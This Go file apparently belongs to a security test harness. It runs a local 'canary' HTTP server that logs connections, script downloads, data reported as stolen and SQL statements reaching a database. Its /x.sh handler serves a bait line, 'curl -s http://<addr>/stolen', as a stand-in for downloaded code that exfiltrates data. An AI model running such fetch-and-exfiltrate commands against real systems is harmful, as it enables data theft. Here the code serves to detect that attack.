package demo

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"sync"
	"time"
)

// A Canary is a process of its own that notices what must not happen: it
// counts connections that reach it and keeps the ledger of effects that the
// SQL server reports. It believes nobody else's word.
type Canary struct {
	mu      sync.Mutex
	hits    []string // requests for the script, and what it would steal
	conns   int
	effects []string // statements that reached the database
}

// RunCanary serves on a free port, prints its address as one line, and ends
// with ctx.
func RunCanary(ctx context.Context, out io.Writer) error {
	l, err := (&net.ListenConfig{}).Listen(ctx, "tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	c := &Canary{}
	mux := http.NewServeMux()
	mux.HandleFunc("GET /x.sh", func(w http.ResponseWriter, r *http.Request) {
		c.hit("download")
		fmt.Fprintf(w, "curl -s http://%s/stolen\n", l.Addr())
	})
	mux.HandleFunc("GET /stolen", func(http.ResponseWriter, *http.Request) { c.hit("exfiltration") })
	mux.HandleFunc("POST /effects", func(w http.ResponseWriter, r *http.Request) {
		b, err := io.ReadAll(io.LimitReader(r.Body, 64<<10))
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		c.mu.Lock()
		defer c.mu.Unlock()
		c.effects = append(c.effects, string(b))
	})
	mux.HandleFunc("GET /report", func(w http.ResponseWriter, _ *http.Request) { _ = json.NewEncoder(w).Encode(c.report()) })
	srv := &http.Server{Handler: mux, ReadHeaderTimeout: 5 * time.Second, ConnState: func(_ net.Conn, s http.ConnState) {
		if s == http.StateNew {
			c.mu.Lock()
			defer c.mu.Unlock()
			c.conns++
		}
	}}
	fmt.Fprintln(out, l.Addr())
	go func() { <-ctx.Done(); srv.Close() }()
	if err := srv.Serve(l); err != http.ErrServerClosed {
		return err
	}
	return nil
}

func (c *Canary) hit(what string) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.hits = append(c.hits, what)
}

// A report is what the canary has seen so far. Asking for it is a connection
// too, so Connections is only good for differences.
type report struct {
	Hits        []string `json:"hits"`
	Connections int      `json:"connections"`
	Effects     []string `json:"effects"`
}

func (c *Canary) report() report {
	c.mu.Lock()
	defer c.mu.Unlock()
	return report{append([]string{}, c.hits...), c.conns, append([]string{}, c.effects...)}
}
